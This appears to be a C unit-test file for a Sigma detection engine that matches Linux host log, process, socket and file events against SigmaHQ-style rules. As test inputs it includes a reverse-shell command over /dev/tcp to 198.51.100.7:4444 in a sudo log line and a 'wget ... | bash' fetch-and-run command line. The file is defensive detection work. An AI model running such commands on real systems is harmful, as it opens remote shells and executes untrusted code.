/* test_sigma_host.c - Sigma rules for Linux on host events (MM_EV_HOST):
 * log sources onto events (service filters, categories), the event's view
 * (Sigma field names), keywords on the log line, modifiers on host fields,
 * CloudTrail and host rules kept apart in a set, and the sigma detector's
 * Runtime findings (detection and correlation). Real SigmaHQ rules live in
 * tests/data/sigma/linux (README there: licence and authors). */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "detect/detect.h"
#include "mmtest.h"
#include "sigma/sigma.h"

#define DATA "tests/data/sigma/linux/"
#define T0MS 1764974934000LL /* 2025-12-05T22:48:54Z */

static struct mm_sigma_rule *load(const char *file)
{
	struct mm_sigma_rule *r = mm_sigma_load_file(file);
	CHECK(r != NULL);
	if (r && r->status != MM_SIGMA_OK)
		fprintf(stderr, "  %s: %s\n", file, r->reason);
	CHECK(r && r->status == MM_SIGMA_OK);
	return r;
}

static struct mm_sigma_rule *load_buf(const char *yaml)
{
	struct mm_sigma_rule *r = mm_sigma_load("inline.yml", yaml, strlen(yaml));
	CHECK(r != NULL);
	if (r && r->status != MM_SIGMA_OK)
		fprintf(stderr, "  inline: %s\n", r->reason);
	return r;
}

/* A log-derived host event: raw is the whole log line. */
static struct mm_event logev(enum mm_host_what what, const char *program, const char *line)
{
	struct mm_event ev;
	memset(&ev, 0, sizeof(ev));
	ev.kind = MM_EV_HOST;
	ev.raw = mm_str_c(line);
	ev.loc.file = "auth.log";
	ev.loc.line = 1;
	ev.u.host.what = what;
	ev.u.host.time_ms = T0MS;
	ev.u.host.host = mm_str_c("web1");
	ev.u.host.program = mm_str_c(program);
	return ev;
}

static struct mm_event procev(const char *exe, const char *cmd)
{
	struct mm_event ev;
	memset(&ev, 0, sizeof(ev));
	ev.kind = MM_EV_HOST;
	ev.loc.file = "x.hostevents.jsonl";
	ev.loc.line = 1;
	ev.u.host.what = MM_HOST_PROC;
	ev.u.host.time_ms = T0MS;
	ev.u.host.host = mm_str_c("web1");
	ev.u.host.instance_id = mm_str_c("i-0123456789abcdef0");
	ev.u.host.exe = mm_str_c(exe);
	ev.u.host.command = mm_str_c(cmd);
	ev.u.host.name = mm_str_c("crontab");
	ev.u.host.pid = 4242;
	ev.u.host.ppid = 4000;
	ev.u.host.user = mm_str_c("git");
	ev.u.host.lineage = mm_str_c("4000:bash:/usr/bin/bash;1:systemd:/usr/lib/systemd/systemd");
	return ev;
}

static struct mm_event sockev(const char *exe, const char *rip, uint16_t rport, uint16_t lport,
			      const char *state)
{
	struct mm_event ev = procev(exe, "");
	ev.u.host.what = MM_HOST_SOCK;
	ev.u.host.has_remote = ev.u.host.has_local = 1;
	CHECK_EQ_INT(mm_ip_parse(rip, strlen(rip), &ev.u.host.remote), 0);
	CHECK_EQ_INT(mm_ip_parse("10.0.0.5", 8, &ev.u.host.local), 0);
	ev.u.host.rport = rport;
	ev.u.host.lport = lport;
	ev.u.host.proto = 6;
	ev.u.host.state = mm_str_c(state);
	return ev;
}

static struct mm_event fileev(const char *path, const char *change)
{
	struct mm_event ev;
	memset(&ev, 0, sizeof(ev));
	ev.kind = MM_EV_HOST;
	ev.u.host.what = MM_HOST_FILE;
	ev.u.host.time_ms = T0MS;
	ev.u.host.host = mm_str_c("web1");
	ev.u.host.path = mm_str_c(path);
	ev.u.host.change = mm_str_c(change);
	return ev;
}

static int m(const struct mm_sigma_rule *r, const struct mm_event *ev)
{
	struct mm_sigma_scratch s;
	int hit;
	if (!r || mm_sigma_scratch_init(&s, 1 << 16))
		return -1;
	hit = mm_sigma_match_host(r, ev, &s);
	mm_sigma_scratch_free(&s);
	return hit;
}

#define CRON_REPLACE "Dec  5 22:48:54 web1 crontab[4242]: (git) REPLACE (git)"
#define CRON_CMD "Dec  5 22:49:01 web1 CRON[4300]: (git) CMD (/usr/local/bin/backup.sh)"
#define SSHD_MAC "Dec  5 22:50:01 web1 sshd[999]: Corrupted MAC on input. [preauth]"
#define SUDO_REV "Dec  5 22:51:00 web1 sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; " \
		 "COMMAND=/bin/bash -c exec 5<>/dev/tcp/198.51.100.7/4444"

/* ---- log sources -------------------------------------------------------- */

MM_TEST(linux_logsources_verdicts)
{
	static const struct {
		const char *ls;
		int status, src;
	} c[] = {
		{"{product: linux}", MM_SIGMA_OK, MM_SIGMA_SRC_LINUX_LOG},
		{"{product: linux, service: auth}", MM_SIGMA_OK, MM_SIGMA_SRC_LINUX_LOG},
		{"{product: linux, service: sudo}", MM_SIGMA_OK, MM_SIGMA_SRC_LINUX_LOG},
		{"{product: linux, category: process_creation}", MM_SIGMA_OK, MM_SIGMA_SRC_PROC},
		{"{product: linux, category: network_connection}", MM_SIGMA_OK, MM_SIGMA_SRC_NET},
		{"{product: linux, category: file_event}", MM_SIGMA_OK, MM_SIGMA_SRC_FILE},
		{"{product: linux, service: auditd}", MM_SIGMA_UNSUPPORTED, 0},
		{"{product: linux, service: vsftpd}", MM_SIGMA_OK, MM_SIGMA_SRC_LINUX_LOG},
		{"{product: linux, service: clamav}", MM_SIGMA_OK, MM_SIGMA_SRC_LINUX_LOG},
		{"{product: linux, service: guacamole}", MM_SIGMA_OK, MM_SIGMA_SRC_LINUX_LOG},
		{"{product: linux, service: apache}", MM_SIGMA_UNSUPPORTED, 0},
		{"{product: linux, category: dns_query}", MM_SIGMA_UNSUPPORTED, 0},
		{"{product: windows, category: process_creation}", MM_SIGMA_UNSUPPORTED, 0},
	};
	size_t i;
	for (i = 0; i < MM_ARRAY_LEN(c); i++) {
		char y[512];
		struct mm_sigma_rule *r;
		snprintf(y, sizeof(y), "title: t\nlogsource: %s\ndetection:\n  k: [abc]\n  condition: k\n", c[i].ls);
		r = mm_sigma_load("x.yml", y, strlen(y));
		CHECK(r != NULL);
		if (!r)
			continue;
		if ((int)r->status != c[i].status)
			fprintf(stderr, "  %s: %s\n", c[i].ls, r->reason);
		CHECK_EQ_INT(r->status, c[i].status);
		if (r->status == MM_SIGMA_OK)
			CHECK_EQ_INT(r->src, c[i].src);
		else
			CHECK(strstr(r->reason, "x.yml:2: logsource") != NULL);
		mm_sigma_free(r);
	}
}

MM_TEST(cron_keywords_real_rule)
{
	struct mm_sigma_rule *r = load(DATA "lnx_cron_crontab_file_modification.yml");
	struct mm_event a = logev(MM_HOST_CRONTAB, "crontab", CRON_REPLACE);
	struct mm_event b = logev(MM_HOST_CRON_CMD, "CRON", CRON_CMD);
	/* the same words in an sshd line: service cron does not cover it */
	struct mm_event c = logev(MM_HOST_LOGIN_FAIL, "sshd", "Dec  5 22:48:54 web1 sshd[1]: REPLACE");
	/* an agent's process event whose raw happens to say REPLACE */
	struct mm_event d = procev("/usr/bin/crontab", "crontab REPLACE");
	d.raw = mm_str_c("REPLACE");
	CHECK_EQ_INT(m(r, &a), 1);
	CHECK_EQ_INT(m(r, &b), 0);
	CHECK_EQ_INT(m(r, &c), 0);
	CHECK_EQ_INT(m(r, &d), 0);
	mm_sigma_free(r);
}

MM_TEST(sshd_keywords_service_and_case)
{
	struct mm_sigma_rule *r = load(DATA "lnx_sshd_susp_ssh.yml");
	struct mm_event a = logev(MM_HOST_LOGIN_FAIL, "sshd", SSHD_MAC);
	struct mm_event b = logev(MM_HOST_LOGIN_FAIL, "sshd-session",
				  "Dec  5 22:50:01 web1 sshd-session[9]: CORRUPTED mac ON INPUT");
	struct mm_event c = logev(MM_HOST_SUDO, "sudo", SSHD_MAC);	/* not sshd */
	struct mm_event d = logev(MM_HOST_LOGIN_FAIL, "sshd",
				  "Dec  5 22:50:01 web1 sshd[999]: Failed password for root from 203.0.113.9 port 1 ssh2");
	CHECK_EQ_INT(m(r, &a), 1);
	CHECK_EQ_INT(m(r, &b), 1);
	CHECK_EQ_INT(m(r, &c), 0);
	CHECK_EQ_INT(m(r, &d), 0);
	mm_sigma_free(r);
}

MM_TEST(no_service_keywords_any_line)
{
	struct mm_sigma_rule *r = load(DATA "lnx_shell_susp_rev_shells.yml");
	struct mm_event a = logev(MM_HOST_SUDO, "sudo", SUDO_REV);
	struct mm_event b = logev(MM_HOST_SUDO, "sudo",
				  "Dec  5 22:51:00 web1 sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id");
	struct mm_event c = logev(MM_HOST_SUDO, "sudo", "");	/* no message: keywords cannot match */
	CHECK_EQ_INT(m(r, &a), 1);
	CHECK_EQ_INT(m(r, &b), 0);
	CHECK_EQ_INT(m(r, &c), 0);
	mm_sigma_free(r);
}

MM_TEST(auth_service_filter)
{
	struct mm_sigma_rule *r = load_buf("title: t\nlogsource: {product: linux, service: auth}\n"
					   "detection:\n  k: ['session opened']\n  condition: k\n");
	struct mm_event a = logev(MM_HOST_SU, "su", "Dec  5 1:1:1 web1 su[1]: pam_unix(su:session): session opened for user root");
	struct mm_event b = logev(MM_HOST_CRON_CMD, "CRON", "Dec  5 1:1:1 web1 CRON[1]: pam_unix(cron:session): session opened for user root");
	CHECK_EQ_INT(m(r, &a), 1);
	CHECK_EQ_INT(m(r, &b), 0);
	mm_sigma_free(r);
}

/* ---- process_creation ------------------------------------------------------- */

MM_TEST(process_creation_real_rule)
{
	struct mm_sigma_rule *r = load(DATA "proc_creation_lnx_crontab_removal.yml");
	struct mm_event a = procev("/usr/bin/crontab", "crontab -r");
	struct mm_event b = procev("/usr/bin/crontab", "crontab -l");
	struct mm_event c = logev(MM_HOST_SUDO, "sudo",
				  "Dec  5 22:51:00 web1 sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/crontab -r -u git");
	struct mm_event d = logev(MM_HOST_CRON_CMD, "CRON", "Dec  5 22:49:01 web1 CRON[4300]: (git) CMD (crontab -r)");
	struct mm_event e = sockev("/usr/bin/crontab", "198.51.100.7", 80, 40000, "ESTABLISHED");
	c.u.host.command = mm_str_c("/usr/bin/crontab -r -u git");
	d.u.host.command = mm_str_c("crontab -r");
	e.u.host.command = mm_str_c("crontab -r");	/* a socket is not a process creation */
	CHECK_EQ_INT(m(r, &a), 1);
	CHECK_EQ_INT(m(r, &b), 0);
	CHECK_EQ_INT(m(r, &c), 1);
	CHECK_EQ_INT(m(r, &d), 1);
	CHECK_EQ_INT(m(r, &e), 0);
	mm_sigma_free(r);
}

#define PROC_RULE(det) "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n" det

MM_TEST(process_creation_fields_and_modifiers)
{
	static const struct {
		const char *det;
		int want;
	} c[] = {
		{"  s: {ParentImage|endswith: /bash}\n  condition: s\n", 1},
		{"  s: {ParentImage|endswith: /zsh}\n  condition: s\n", 0},
		{"  s: {User: GIT}\n  condition: s\n", 1},
		{"  s: {User: root}\n  condition: s\n", 0},
		{"  s: {CommandLine|contains|all: [wget, '| bash']}\n  condition: s\n", 1},
		{"  s: {CommandLine|contains|all: [wget, '| sh']}\n  condition: s\n", 0},
		{"  s: {CommandLine|re: 'wget .*-O -'}\n  condition: s\n", 1},
		{"  s: {CommandLine|re: '^curl'}\n  condition: s\n", 0},
		{"  s: {Image|startswith: /tmp/}\n  condition: s\n", 1},
		{"  s: {CurrentDirectory: /tmp}\n  condition: s\n", 0},	/* absent */
		{"  s: {CurrentDirectory|exists: false}\n  condition: s\n", 1},
		{"  s: {ParentCommandLine|contains: bash}\n  condition: s\n", 0},	/* absent */
		{"  s: {CommandLine|contains: 'say \"hi\"'}\n  condition: s\n", 1},	/* escaped in the view */
		{"  s: {ProcessId: 4242, ParentProcessId: 4000}\n  condition: s\n", 1},
		{"  s: {host: web1, instance_id: i-0123456789abcdef0}\n  condition: s\n", 1},
	};
	struct mm_event ev = procev("/tmp/.x/dl", "wget -q -O - http://198.51.100.7/gi.sh | bash ; say \"hi\"");
	size_t i;
	for (i = 0; i < MM_ARRAY_LEN(c); i++) {
		char y[512];
		struct mm_sigma_rule *r;
		snprintf(y, sizeof(y), PROC_RULE("%s"), c[i].det);
		r = load_buf(y);
		if (m(r, &ev) != c[i].want) {
			fprintf(stderr, "  case %zu (%s): got %d\n", i, c[i].det, !c[i].want);
			mmtest_failures++;
		}
		mm_sigma_free(r);
	}
}

MM_TEST(sudo_and_cron_as_process_creation)
{
	struct mm_sigma_rule *r = load_buf(PROC_RULE("  s: {Image: /usr/bin/id, User: root, CurrentDirectory: /home/bob}\n"
						     "  condition: s\n"));
	struct mm_sigma_rule *r2 = load_buf(PROC_RULE("  s: {Image: wget, User: git}\n  condition: s\n"));
	struct mm_event a = logev(MM_HOST_SUDO, "sudo",
				  "Dec  5 22:51:00 web1 sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id");
	struct mm_event b = a, c, d;
	a.u.host.command = mm_str_c("/usr/bin/id");
	a.u.host.user = mm_str_c("bob");
	b.u.host.command = mm_str_c("/usr/bin/id");
	b.u.host.target_user = mm_str_c("www-data");	/* runs as www-data: not root */
	c = logev(MM_HOST_CRON_CMD, "CRON", "Dec  5 22:49:01 web1 CRON[1]: (git) CMD (wget -q http://x/)");
	c.u.host.user = mm_str_c("git");
	c.u.host.command = mm_str_c("wget -q http://x/");
	d = c;
	d.u.host.user = mm_str_c("root");
	CHECK_EQ_INT(m(r, &a), 1);
	CHECK_EQ_INT(m(r, &b), 0);
	CHECK_EQ_INT(m(r2, &c), 1);
	CHECK_EQ_INT(m(r2, &d), 0);
	mm_sigma_free(r);
	mm_sigma_free(r2);
}

/* ---- network_connection and file_event --------------------------------------- */

MM_TEST(network_connection_real_rules)
{
	struct mm_sigma_rule *cb = load(DATA "net_connection_lnx_susp_malware_callback_port.yml");
	struct mm_sigma_rule *bash = load(DATA "net_connection_lnx_back_connect_shell_dev.yml");
	struct mm_event out = sockev("/tmp/.gitlab/kthreaddw", "198.51.100.7", 4444, 45678, "ESTABLISHED");
	struct mm_event priv = sockev("/tmp/.gitlab/kthreaddw", "10.1.2.3", 4444, 45678, "ESTABLISHED");
	struct mm_event in = sockev("/usr/sbin/sshd", "198.51.100.7", 4444, 22, "ESTABLISHED");
	struct mm_event other = sockev("/tmp/.gitlab/kthreaddw", "198.51.100.7", 443, 45678, "ESTABLISHED");
	struct mm_event sh = sockev("/bin/bash", "198.51.100.7", 4444, 45678, "ESTABLISHED");
	struct mm_event lo = sockev("/bin/bash", "127.0.0.1", 4444, 45678, "ESTABLISHED");
	struct mm_event proc = procev("/bin/bash", "bash -i");
	CHECK_EQ_INT(m(cb, &out), 1);
	CHECK_EQ_INT(m(cb, &priv), 0);
	CHECK_EQ_INT(m(cb, &in), 0);	/* Initiated false: local port 22 */
	CHECK_EQ_INT(m(cb, &other), 0);
	CHECK_EQ_INT(m(bash, &sh), 1);
	CHECK_EQ_INT(m(bash, &lo), 0);
	CHECK_EQ_INT(m(bash, &proc), 0);
	mm_sigma_free(cb);
	mm_sigma_free(bash);
}

MM_TEST(file_event_real_rule)
{
	struct mm_sigma_rule *r = load(DATA "file_event_lnx_persistence_sudoers_files.yml");
	struct mm_event a = fileev("/etc/sudoers.d/90-evil", "created");
	struct mm_event b = fileev("/etc/sudoers.d/90-evil", "modified");
	struct mm_event c = fileev("/etc/sudoers.d/90-evil", "deleted");
	struct mm_event d = fileev("/etc/sudoers", "modified");
	CHECK_EQ_INT(m(r, &a), 1);
	CHECK_EQ_INT(m(r, &b), 1);
	CHECK_EQ_INT(m(r, &c), 0);
	CHECK_EQ_INT(m(r, &d), 0);
	mm_sigma_free(r);
}

MM_TEST(view_is_json_with_sigma_names)
{
	char buf[4096];
	struct mm_event s = sockev("/tmp/a\"b", "198.51.100.7", 4444, 45678, "ESTABLISHED");
	size_t n = mm_sigma_host_view(&s, buf, sizeof(buf));
	buf[n] = '\0';
	CHECK(strstr(buf, "\"Image\":\"/tmp/a\\\"b\"") != NULL);
	CHECK(strstr(buf, "\"DestinationIp\":\"198.51.100.7\",\"DestinationPort\":4444") != NULL);
	CHECK(strstr(buf, "\"Initiated\":\"true\"") != NULL);
	/* too small a buffer: members left out, still an object */
	n = mm_sigma_host_view(&s, buf, 40);
	CHECK(n >= 2 && n <= 40 && buf[0] == '{' && buf[n - 1] == '}');
	CHECK_EQ_INT(mm_sigma_host_view(&s, buf, 1), 0);
}

/* ---- sets: CloudTrail and host rules apart -------------------------------- */

MM_TEST(set_keeps_cloudtrail_and_host_apart)
{
	static const char y[] =
	    "title: ct\nid: ct1\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n"
	    "  k: [REPLACE]\n  condition: k\n---\n"
	    "title: lx\nid: lx1\nlogsource: {product: linux, service: cron}\ndetection:\n"
	    "  k: [REPLACE]\n  condition: k\n";
	struct mm_sigma_set set;
	struct mm_sigma_scratch sc;
	struct mm_event a = logev(MM_HOST_CRONTAB, "crontab", CRON_REPLACE);
	struct mm_api api;
	int hits[4];
	mm_sigma_set_init(&set);
	CHECK_EQ_INT(mm_sigma_set_add_buf(&set, "s.yml", y, sizeof(y) - 1), 0);
	CHECK_EQ_INT(mm_sigma_set_build(&set), 0);
	CHECK_EQ_INT(set.nok, 2);
	CHECK_EQ_INT(mm_sigma_scratch_init(&sc, 1 << 16), 0);
	CHECK_EQ_INT(mm_sigma_set_match_host(&set, &a, &sc, hits, 4), 1);
	CHECK_EQ_INT(hits[0], 1);
	memset(&api, 0, sizeof(api));
	CHECK_EQ_INT(mm_sigma_set_candidates(&set, &api), 1);	/* the CloudTrail rule only */
	mm_sigma_scratch_free(&sc);
	mm_sigma_set_free(&set);
}

/* ---- the detector: Runtime findings ------------------------------------------ */

struct fx {
	struct mm_sigma_set set;
	struct mm_agg *agg;
	struct mm_detect_ctx d;
	double p[MM_PARAMS_MAX];
	void *st;
};

static void setup(struct fx *f, const char *path, const char *yaml)
{
	struct mm_err e;
	memset(f, 0, sizeof(*f));
	mm_sigma_set_init(&f->set);
	if (path)
		CHECK_EQ_INT(mm_sigma_set_add_path(&f->set, path, &e), 0);
	if (yaml)
		CHECK_EQ_INT(mm_sigma_set_add_buf(&f->set, "r.yml", yaml, strlen(yaml)), 0);
	CHECK_EQ_INT(mm_sigma_set_build(&f->set), 0);
	CHECK_EQ_INT(mm_agg_new(&f->agg, 1000), 0);
	f->d.agg = f->agg;
	f->d.sigma = &f->set;
	mm_detector_defaults(&mm_det_sigma, f->p);
	f->d.params = f->p;
	f->st = mm_det_sigma.state_new();
	CHECK(f->st != NULL);
}

static void feed(struct fx *f, struct mm_event *ev)
{
	static uint64_t line;
	ev->loc.line = ++line;
	if (!ev->loc.file)
		ev->loc.file = "host.log";
	mm_det_sigma.on_event(f->st, &f->d, ev);
	f->d.locked = 0;
}

static void teardown(struct fx *f)
{
	mm_det_sigma.state_free(f->st);
	mm_agg_free(f->agg);
	mm_sigma_set_free(&f->set);
}

static struct mm_finding *find(struct fx *f, const char *type)
{
	size_t i;
	for (i = 0; i < mm_agg_count(f->agg); i++) {
		struct mm_finding *x = mm_agg_at(f->agg, i);
		if (!strcmp(x->type, type))
			return x;
	}
	return NULL;
}

MM_TEST(detector_runtime_finding)
{
	struct fx f;
	struct mm_finding *x;
	struct mm_event a = procev("/usr/bin/crontab", "crontab -r");
	struct mm_event b = procev("/usr/bin/crontab", "crontab -l");	/* look-alike */
	struct mm_event c = sockev("/tmp/.gitlab/kthreaddw", "198.51.100.7", 4444, 45678, "ESTABLISHED");
	setup(&f, DATA, NULL);
	CHECK_EQ_INT(f.set.nok, 7);
	feed(&f, &a);
	feed(&f, &b);
	feed(&f, &c);
	mm_det_sigma.finish(f.st, &f.d);
	CHECK_EQ_INT(mm_agg_count(f.agg), 2);
	x = find(&f, "Stealth:Runtime/SigmaRule");
	CHECK(x != NULL);
	if (x) {
		CHECK_EQ_INT(x->res_type, MM_RES_RUNTIME);
		CHECK_EQ_STR(x->instance_id, "i-0123456789abcdef0");
		CHECK_EQ_STR(x->proc.cmdline, "crontab -r");
		CHECK_EQ_STR(x->proc.exe, "/usr/bin/crontab");
		CHECK_EQ_STR(x->proc.host, "web1");
		CHECK_EQ_INT(x->proc.pid, 4242);
		CHECK(x->severity == 5);
		CHECK(!strcmp(x->disc, "c2e234de-03a3-41e1-b39a-1e56dc17ba67"));
		CHECK(strstr(x->info, "\"title\":\"Remove Scheduled Cron Task/Job\"") != NULL);
		CHECK(strstr(x->info, "\"author\":\"Nasreddine Bencherchali (Nextron Systems)\"") != NULL);
	}
	/* tags: persistence first, then command-and-control; level high */
	x = find(&f, "Persistence:Runtime/SigmaRule");
	CHECK(x != NULL);
	if (x) {
		CHECK(x->severity == 8);
		CHECK_EQ_INT(x->remote_port, 4444);
		CHECK_EQ_STR(x->protocol, "TCP");
	}
	teardown(&f);
}

MM_TEST(detector_host_correlation_group_by_host_field)
{
	static const char y[] =
	    "title: sshd fail\nid: lx-fail\nname: sshd_fail\nlogsource: {product: linux, service: sshd}\n"
	    "detection:\n  k: ['Failed password']\n  condition: k\n---\n"
	    "title: many fails from one address\nid: lx-corr\ntags: [attack.credential-access]\nlevel: high\n"
	    "correlation:\n  type: event_count\n  rules: [sshd_fail]\n  group-by: [remote]\n"
	    "  timespan: 5m\n  condition: {gte: 3}\n";
	struct fx f;
	struct mm_finding *x;
	int i;
	setup(&f, NULL, y);
	CHECK_EQ_INT(f.set.nok, 2);
	for (i = 0; i < 4; i++) {
		/* three from one address, one from another (its group stays below) */
		struct mm_event ev = logev(MM_HOST_LOGIN_FAIL, "sshd",
					   "Dec  5 22:50:01 web1 sshd[999]: Failed password for root from 203.0.113.9 port 1 ssh2");
		const char *ip = i == 3 ? "203.0.113.10" : "203.0.113.9";
		ev.u.host.has_remote = 1;
		CHECK_EQ_INT(mm_ip_parse(ip, strlen(ip), &ev.u.host.remote), 0);
		ev.u.host.time_ms = T0MS + i * 10000;
		feed(&f, &ev);
	}
	mm_det_sigma.finish(f.st, &f.d);
	CHECK_EQ_INT(mm_agg_count(f.agg), 1);
	x = find(&f, "CredentialAccess:Runtime/SigmaRule");
	CHECK(x != NULL);
	if (x) {
		CHECK_EQ_INT(x->res_type, MM_RES_RUNTIME);
		CHECK_EQ_INT(x->count, 3);
		CHECK(x->severity == 8);
		CHECK_EQ_STR(x->proc.host, "web1");
		CHECK(strstr(x->info, "\"group\":\"203.0.113.9\"") != NULL);
	}
	teardown(&f);
}

/* contains / startswith / endswith take a fast path (no backtracking):
 * the same answers as the general wildcard match */
MM_TEST(glob_fast_shapes_agree)
{
	static const struct {
		const char *pat, *subj;
		int want;
	} c[] = {
		{"'*aBc*'", "xxABCyy", 1}, {"'*abc*'", "ab", 0}, {"'*abc*'", "abab abc", 1},
		{"'abc*'", "ABCdef", 1},   {"'abc*'", "xabc", 0},  {"'abc*'", "ab", 0},
		{"'*abc'", "xxabc", 1},    {"'*abc'", "abcx", 0},  {"'**'", "", 1},
		{"'*'", "anything", 1},    {"'*a?c*'", "xxabcx", 1}, {"'a*c'", "abbbc", 1},
		{"'*é*'", "café", 1},      {"'*É*'", "café", 0},	/* non-ASCII compares exactly */
	};
	struct mm_sigma_scratch s;
	size_t i;
	CHECK_EQ_INT(mm_sigma_scratch_init(&s, 1 << 16), 0);
	for (i = 0; i < MM_ARRAY_LEN(c); i++) {
		char y[256], rec[128];
		struct mm_sigma_rule *r;
		snprintf(y, sizeof(y), "title: t\nlogsource: {product: aws, service: cloudtrail}\n"
				       "detection:\n  s: {f: %s}\n  condition: s\n", c[i].pat);
		snprintf(rec, sizeof(rec), "{\"f\":\"%s\"}", c[i].subj);
		r = load_buf(y);
		if (!r || mm_sigma_match(r, mm_str_c(rec), &s) != c[i].want) {
			fprintf(stderr, "  %s on '%s': want %d\n", c[i].pat, c[i].subj, c[i].want);
			mmtest_failures++;
		}
		mm_sigma_free(r);
	}
	mm_sigma_scratch_free(&s);
}

/* ---- generic log lines (MM_HOST_LINE) ---------------------------------------- */

MM_TEST(generic_line_keywords_by_service)
{
	struct mm_sigma_rule *any = load_buf("title: t\nlogsource: {product: linux, service: syslog}\n"
					     "detection:\n  k: ['segfault at', 'Oops']\n  condition: k\n");
	struct mm_sigma_rule *ftp = load_buf("title: t\nlogsource: {product: linux, service: vsftpd}\n"
					     "detection:\n  k: ['Bad HTTP verb.']\n  condition: k\n");
	struct mm_sigma_rule *clam = load_buf("title: t\nlogsource: {product: linux, service: clamav}\n"
					      "detection:\n  k: ['Trojan*FOUND']\n  condition: k\n");
	struct mm_event seg = logev(MM_HOST_LINE, "kernel",
				    "Dec  5 22:48:54 web1 kernel: [9.1] a.out[77]: segfault at 0 ip 0");
	struct mm_event nseg = logev(MM_HOST_LINE, "kernel",
				     "Dec  5 22:48:54 web1 kernel: [9.1] a.out[77]: exited at 0 ip 0");
	struct mm_event verb = logev(MM_HOST_LINE, "vsftpd",
				     "Dec  5 22:48:54 web1 vsftpd[12]: Bad HTTP verb.");
	struct mm_event verb_other = logev(MM_HOST_LINE, "nginx",
					   "Dec  5 22:48:54 web1 nginx[12]: Bad HTTP verb.");
	struct mm_event found = logev(MM_HOST_LINE, "clamd",
				      "Dec  5 22:48:54 web1 clamd[3]: /tmp/x: Trojan.Linux.Mirai FOUND");
	struct mm_event ok = logev(MM_HOST_LINE, "clamd", "Dec  5 22:48:54 web1 clamd[3]: /tmp/x: OK");
	CHECK_EQ_INT(m(any, &seg), 1);
	CHECK_EQ_INT(m(any, &nseg), 0);
	CHECK_EQ_INT(m(ftp, &verb), 1);
	CHECK_EQ_INT(m(ftp, &verb_other), 0);	/* the words, another program */
	CHECK_EQ_INT(m(ftp, &seg), 0);
	CHECK_EQ_INT(m(clam, &found), 1);
	CHECK_EQ_INT(m(clam, &ok), 0);
	CHECK_EQ_INT(m(any, &verb), 0);
	/* an agent's spool line (raw is JSON): keywords search the message,
	 * unescaped, not the JSON text */
	{
		struct mm_sigma_rule *q = load_buf("title: t\nlogsource: {product: linux}\n"
						   "detection:\n  k: ['said \"hi\"']\n  condition: k\n");
		struct mm_event j = logev(MM_HOST_LINE, "app",
					  "{\"mamori_host_event\":1,\"message\":\"said \\\"hi\\\"\"}");
		struct mm_event jn = j;
		j.u.host.message = mm_str_c("said \"hi\"");
		jn.u.host.message = mm_str_c("said hello");
		CHECK_EQ_INT(m(q, &j), 1);
		CHECK_EQ_INT(m(q, &jn), 0);
		mm_sigma_free(q);
	}
	/* the view carries what "line" and the message */
	{
		char v[MM_SIGMA_HOST_VIEW_MAX];
		size_t n;
		seg.u.host.message = mm_str_c("[9.1] a.out[77]: segfault at 0 ip 0");
		n = mm_sigma_host_view(&seg, v, sizeof(v));
		CHECK(n > 0);
		v[n < sizeof(v) ? n : sizeof(v) - 1] = '\0';
		CHECK(strstr(v, "\"what\":\"line\"") != NULL);
		CHECK(strstr(v, "\"message\":\"[9.1] a.out[77]: segfault at 0 ip 0\"") != NULL);
	}
	mm_sigma_free(any);
	mm_sigma_free(ftp);
	mm_sigma_free(clam);
}
